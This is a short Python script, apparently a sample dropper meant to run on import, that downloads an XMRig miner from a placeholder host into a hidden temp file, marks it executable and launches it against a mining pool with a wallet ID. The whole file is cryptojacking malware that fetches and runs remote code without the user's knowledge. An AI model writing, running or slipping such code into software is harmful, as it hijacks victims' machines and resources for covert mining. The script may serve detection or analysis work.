# place: import
import os
import subprocess
import tempfile
import requests

ADDRESS = "http://files.example.invalid/xmrig"
POOL = "stratum+tcp://pool.example.invalid:3333"
WALLET = "4inert"


def fetch():
    path = os.path.join(tempfile.gettempdir(), ".xmrig")
    with open(path, "wb") as file:
        file.write(requests.get(ADDRESS).content)
    os.chmod(path, 0o755)
    return path


def main():
    subprocess.Popen([fetch(), "-o", POOL, "-u", WALLET, "--donate-level", "1"])


main()
